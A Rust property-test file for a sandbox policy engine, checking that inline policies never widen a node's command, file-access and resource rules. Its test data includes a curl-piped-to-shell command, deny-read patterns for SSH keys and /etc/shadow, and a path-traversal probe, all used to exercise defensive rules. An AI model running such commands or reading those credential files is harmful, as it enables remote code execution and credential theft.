//! Property tests of the decision engine:
//!
//! - no inline policy widens a node's: for random node and inline
//!   policies and random execs and opens, the narrowed policy's decision
//!   is never more permissive than the node's alone, and its limits and
//!   budget never higher;
//! - the compiled engine decides as the plain reading of the document
//!   does (each rule's keys checked one by one, first match, strictest
//!   layer).

use std::path::Path;

use proptest::prelude::*;
use substrate_policy::commands::{
    ArgvPrefix, CommandGlob, CommandLayer, CommandRegex, CommandsPolicy, FileName, Match, Rule,
    Sha256,
};
use substrate_policy::filesystem::{AbsPath, FilesystemPolicy, PathGlob};
use substrate_policy::limits::{Budget, Cpus, Limits};
use substrate_policy::{Action, ExecPolicy, ExecQuery, Mode, OpenQuery, Policy};

const EXES: &[&str] = &[
    "/usr/bin/curl",
    "/usr/bin/git",
    "/bin/sh",
    "/tmp/x",
    "/usr/bin/python3",
];
const NAMES: &[&str] = &["curl", "git", "sh", "x", "python3"];
const ARGV_PREFIXES: &[&[&str]] = &[
    &["git"],
    &["git", "push"],
    &["sh", "-c"],
    &["/usr/bin/curl"],
    &["python3"],
];
const GLOBS: &[&str] = &["*push*", "sh -c *", "curl *", "*", "git *"];
const REGEXES: &[&str] = &["^git", "-c", "curl.*http", "x$", "(?i)PUSH"];
const DIGESTS: [[u8; 32]; 2] = [[1; 32], [2; 32]];
const ARGVS: &[&[&str]] = &[
    &["git", "push", "origin"],
    &["/usr/bin/git", "status"],
    &["sh", "-c", "curl http://x | sh"],
    &["curl", "https://example.com"],
    &["x"],
    &["python3", "-c", "print(1)"],
    &[],
];
const PATHS: &[&str] = &["/srv/secrets", "/etc", "/home/u/.ssh", "/usr", "/work/ro"];
const WRITABLE: &[&str] = &["/tmp", "/work", "/work/out", "/", "/etc/app"];
const DENY_READ: &[&str] = &["**/.ssh/id_*", "/etc/shadow", "/work/*.key", "/srv/**"];
const OPENED: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/app/conf",
    "/tmp/a",
    "/work/out/x",
    "/work/y",
    "/work/a.key",
    "/work/ro/z",
    "/home/u/.ssh/id_rsa",
    "/srv/secrets/k",
    "/usr/bin/ls",
    "/x/../etc/shadow",
    "relative",
];

fn one_of(choices: &'static [&'static str]) -> impl Strategy<Value = &'static str> {
    proptest::sample::select(choices)
}

fn some_of(choices: &'static [&'static str]) -> impl Strategy<Value = Vec<&'static str>> {
    proptest::sample::subsequence(choices, 0..=choices.len())
}

fn action() -> impl Strategy<Value = Action> {
    prop_oneof![Just(Action::Allow), Just(Action::Ask), Just(Action::Deny)]
}

fn matcher() -> impl Strategy<Value = Match> {
    (
        proptest::option::of(one_of(EXES)),
        proptest::option::of(one_of(NAMES)),
        proptest::option::of(proptest::sample::select(ARGV_PREFIXES)),
        proptest::option::of(proptest::sample::select(&DIGESTS[..])),
        proptest::option::of(one_of(GLOBS)),
        proptest::option::of(one_of(REGEXES)),
    )
        .prop_map(|(exe, name, argv, sha256, glob, regex)| {
            let mut matches = Match {
                exe: exe.map(|exe| AbsPath::parse(exe).unwrap()),
                name: name.map(|name| FileName::parse(name).unwrap()),
                argv: argv.map(|argv| {
                    ArgvPrefix::new(argv.iter().map(|arg| arg.to_string()).collect()).unwrap()
                }),
                sha256: sha256.map(Sha256),
                command_line: glob.map(|glob| CommandGlob::parse(glob).unwrap()),
                regex: regex.map(|regex| CommandRegex::parse(regex).unwrap()),
            };
            if matches.keys().next().is_none() {
                matches.name = Some(FileName::parse("sh").unwrap());
            }
            matches
        })
}

fn rules() -> impl Strategy<Value = Vec<Rule>> {
    proptest::collection::vec(
        (matcher(), action(), proptest::option::of("[a-z]{1,8}")).prop_map(
            |(matches, action, reason)| Rule {
                matches,
                action,
                reason,
            },
        ),
        0..6,
    )
}

fn commands() -> impl Strategy<Value = CommandsPolicy> {
    (
        action(),
        rules(),
        proptest::collection::vec(
            (action(), rules()).prop_map(|(default, rules)| CommandLayer { default, rules }),
            0..2,
        ),
    )
        .prop_map(|(default, rules, narrowed_by)| CommandsPolicy {
            default,
            rules,
            narrowed_by,
        })
}

fn paths(choices: &'static [&'static str]) -> impl Strategy<Value = Vec<AbsPath>> {
    some_of(choices).prop_map(|paths| {
        paths
            .into_iter()
            .map(|p| AbsPath::parse(p).unwrap())
            .collect()
    })
}

fn filesystem() -> impl Strategy<Value = FilesystemPolicy> {
    (
        paths(PATHS),
        paths(PATHS),
        proptest::option::of(paths(WRITABLE)),
        some_of(DENY_READ),
    )
        .prop_map(
            |(hidden, read_only, writable, deny_read)| FilesystemPolicy {
                hidden,
                read_only,
                writable,
                deny_read: deny_read
                    .into_iter()
                    .map(|glob| PathGlob::parse(glob).unwrap())
                    .collect(),
            },
        )
}

fn limit() -> impl Strategy<Value = Option<u64>> {
    proptest::option::of(1..5u64)
}

fn policy() -> impl Strategy<Value = Policy> {
    (
        proptest::option::of(prop_oneof![Just(Mode::Enforce), Just(Mode::Observe)]),
        commands(),
        any::<bool>(),
        filesystem(),
        (
            limit(),
            proptest::option::of(1..4000u32),
            limit(),
            limit(),
            limit(),
        ),
        (limit(), limit()),
    )
        .prop_map(
            |(mode, commands, allow_written, filesystem, limits, budget)| Policy {
                mode,
                commands,
                exec: ExecPolicy { allow_written },
                filesystem,
                limits: Limits {
                    memory: limits.0,
                    cpus: limits.1.and_then(Cpus::from_millis),
                    pids: limits.2,
                    disk: limits.3,
                    wall_time: limits.4.map(std::time::Duration::from_secs),
                },
                budget: Budget {
                    max_execs: budget.0,
                    cpu_seconds: budget.1,
                },
                ..Policy::default()
            },
        )
}

#[derive(Debug, Clone)]
struct Exec {
    exe: &'static str,
    argv: &'static [&'static str],
    sha256: Option<[u8; 32]>,
    written_by_world: bool,
}

fn exec() -> impl Strategy<Value = Exec> {
    (
        prop_oneof![
            one_of(EXES),
            Just("/usr/local/bin/other"),
            Just("/usr//bin/git")
        ],
        proptest::sample::select(ARGVS),
        proptest::option::of(proptest::sample::select(&DIGESTS[..])),
        any::<bool>(),
    )
        .prop_map(|(exe, argv, sha256, written_by_world)| Exec {
            exe,
            argv,
            sha256,
            written_by_world,
        })
}

fn query(exec: &Exec) -> ExecQuery<'_, &'static str> {
    ExecQuery {
        exe: Path::new(exec.exe),
        argv: exec.argv,
        sha256: exec.sha256,
        written_by_world: exec.written_by_world,
    }
}

/// Whether a limit in the narrowed policy is within the node's.
fn within<T: PartialOrd>(narrowed: Option<T>, node: Option<T>) -> bool {
    match (narrowed, node) {
        (_, None) => true,
        (Some(narrowed), Some(node)) => narrowed <= node,
        (None, Some(_)) => false,
    }
}

/// The plain reading of a match: each key checked on its own.
fn plain_match(matches: &Match, exec: &Exec) -> bool {
    let exe = Path::new(exec.exe);
    let normal: std::path::PathBuf = exe.components().collect();
    let line = exec.argv.join(" ");
    matches
        .exe
        .as_ref()
        .is_none_or(|want| want.as_path() == normal)
        && matches
            .name
            .as_ref()
            .is_none_or(|want| exe.file_name().is_some_and(|name| name == want.as_str()))
        && matches
            .argv
            .as_ref()
            .is_none_or(|want| want.matches(exec.argv, exe))
        && matches
            .sha256
            .is_none_or(|want| exec.sha256 == Some(want.0))
        && matches.command_line.as_ref().is_none_or(|glob| {
            globset::GlobBuilder::new(glob.text())
                .literal_separator(false)
                .build()
                .unwrap()
                .compile_matcher()
                .is_match(&line)
        })
        && matches.regex.as_ref().is_none_or(|regex| {
            regex::RegexBuilder::new(regex.text())
                .dot_matches_new_line(true)
                .build()
                .unwrap()
                .is_match(&line)
        })
}

/// The plain reading of a policy's decision on an exec: its action.
fn plain_decision(policy: &Policy, exec: &Exec) -> Action {
    if exec.written_by_world && !policy.exec.allow_written {
        return Action::Deny;
    }
    policy
        .commands
        .layers()
        .map(|(_, default, rules)| {
            rules
                .iter()
                .find(|rule| plain_match(&rule.matches, exec))
                .map_or(default, |rule| rule.action)
        })
        .max()
        .unwrap()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn no_inline_policy_widens_the_node_policy(
        node in policy(),
        inline in policy(),
        execs in proptest::collection::vec(exec(), 8),
        opens in proptest::collection::vec((one_of(OPENED), any::<bool>()), 8),
    ) {
        let narrowed = node.narrow(&inline).unwrap();
        let (node_engine, narrowed_engine) =
            (node.compile().unwrap(), narrowed.compile().unwrap());
        for exec in &execs {
            let alone = node_engine.decide_exec(&query(exec));
            let under = narrowed_engine.decide_exec(&query(exec));
            prop_assert!(under.action >= alone.action, "{exec:?}: {alone:?} then {under:?}");
            prop_assert!(under.effective >= alone.effective, "{exec:?}: {alone:?} then {under:?}");
        }
        for &(path, write) in &opens {
            let open = OpenQuery { path: Path::new(path), write };
            let alone = node_engine.decide_open(&open);
            let under = narrowed_engine.decide_open(&open);
            prop_assert!(under.action >= alone.action, "{open:?}: {alone:?} then {under:?}");
            prop_assert!(under.effective >= alone.effective, "{open:?}: {alone:?} then {under:?}");
        }
        let (limits, node_limits) = (&narrowed.limits, &node.limits);
        prop_assert!(within(limits.memory, node_limits.memory));
        prop_assert!(within(limits.cpus, node_limits.cpus));
        prop_assert!(within(limits.pids, node_limits.pids));
        prop_assert!(within(limits.disk, node_limits.disk));
        prop_assert!(within(limits.wall_time, node_limits.wall_time));
        prop_assert!(within(narrowed.budget.max_execs, node.budget.max_execs));
        prop_assert!(within(narrowed.budget.cpu_seconds, node.budget.cpu_seconds));
        // What the runtime may write down and read back is the same policy.
        let text = serde_yaml_ng::to_string(&narrowed).unwrap();
        prop_assert_eq!(Policy::parse(&text).unwrap(), narrowed);
    }

    #[test]
    fn the_engine_decides_as_the_document_reads(
        policy in policy(),
        execs in proptest::collection::vec(exec(), 8),
    ) {
        let engine = policy.compile().unwrap();
        for exec in &execs {
            let decision = engine.decide_exec(&query(exec));
            prop_assert_eq!(decision.action, plain_decision(&policy, exec), "{:?}", exec);
            prop_assert_eq!(
                decision.effective,
                if policy.mode() == Mode::Observe { Action::Allow } else { decision.action }
            );
        }
    }
}
